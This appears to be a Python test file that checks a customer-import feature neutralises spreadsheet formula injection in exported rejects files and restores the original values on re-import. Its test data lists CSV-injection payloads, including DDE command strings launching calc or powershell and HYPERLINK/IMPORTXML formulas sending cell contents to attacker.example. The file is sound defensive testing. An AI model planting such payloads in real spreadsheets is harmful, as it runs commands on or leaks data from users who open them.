"""Formulas come in as text, and no program runs them in what we give back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from onaccount.domain.customers.models import Customer
from onaccount.domain.imports.queries import rejects_of, template_csv
from onaccount.domain.imports.rules.rejects import as_uploaded, cells_of, harmless, header_of, is_plain_number
from onaccount.domain.imports.rules.table import open_table
from tests.domain.imports.importing import as_csv, figures, rehearse, take_in

LIVE = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "=cmd|' /C calc'!A0", "＝1+1",
    '=HYPERLINK("http://attacker.example?x="&A1,"Click")', "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|'/C powershell'!A0", "'=1+1", "''=1+1", "=", "-", "+", "@", "＋1", "－1", "＠A1",
    '=IMPORTXML(CONCAT("http://attacker.example?v=", A1), "//a")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
]  # fmt: skip
DEAD = ["-12", "+12", "-12.50", "+441134960017", "1=1", "a+b", "Hollin - Dairy", "17", "", " ", "'quoted'", "O'Hara"]


@pytest.mark.parametrize("cell", LIVE)
def test_what_begins_like_a_formula_is_quoted_and_comes_back_as_it_was(cell):
    assert harmless(cell) == f"'{cell}"
    assert as_uploaded([harmless(cell)]) == [cell]


@pytest.mark.parametrize("cell", DEAD)
def test_what_is_none_stays_as_it_is(cell):
    assert harmless(cell) == cell
    assert as_uploaded([cell]) == [cell]


@given(st.text(alphabet="=+-@\t\r\n\0'＝1.a ", max_size=8))
def test_whatever_a_cell_holds_is_harmless_outside_and_itself_again_inside(cell):
    given_out = harmless(cell)
    assert not given_out.startswith(("=", "@", "\t", "\r", "\n", "\0", "＝"))
    assert not given_out.startswith(("+", "-")) or is_plain_number(given_out)
    assert as_uploaded([given_out]) == [cell]


def test_headings_and_reasons_are_made_harmless_too():
    assert header_of(["=Name", "-Phone"])[:2] == ["'=Name", "'-Phone"]
    assert cells_of(["x"], ["Name"], row=2, reason="=1+1 is no e-mail")[-1] == "'=1+1 is no e-mail"


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("formula", ["=cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "+1-1"])
def test_a_rejected_formula_goes_out_dead_and_is_taken_in_as_typed(formula):
    card = rehearse(
        as_csv(["Company", "Email", "Notes"], ["Hollin Dairy", "no address", formula]), mapping={"Email": "email"}
    )
    rejects = rejects_of(card.key)
    assert rejects is not None
    with open_table(rejects) as table:
        [record] = list(table.rows())
    assert record.cells[2] == f"'{formula}"
    text = rejects.read_text(encoding="utf-8-sig").replace("no address", "orders@hollin.example")
    assert figures(take_in(text.encode(), name="mended.csv")) == {"create": 1}
    assert Customer.objects.get().notes == formula


@pytest.mark.django_db(transaction=True)
def test_formulas_of_a_workbook_are_their_values_and_those_of_a_text_are_text():
    assert figures(take_in(as_csv(["Company", "Notes"], ["=Hollin", '=HYPERLINK("x")']))) == {"create": 1}
    customer = Customer.objects.get()
    assert (customer.name, customer.notes) == ("=Hollin", '=HYPERLINK("x")')


def test_no_cell_of_the_template_is_a_formula():
    cells = [cell for row in csv.reader(io.StringIO(template_csv().decode("utf-8-sig"))) for cell in row]
    assert all(cell.replace(" ", "").lstrip("+").isdigit() for cell in cells if cell[:1] in ("=", "+", "-", "@"))
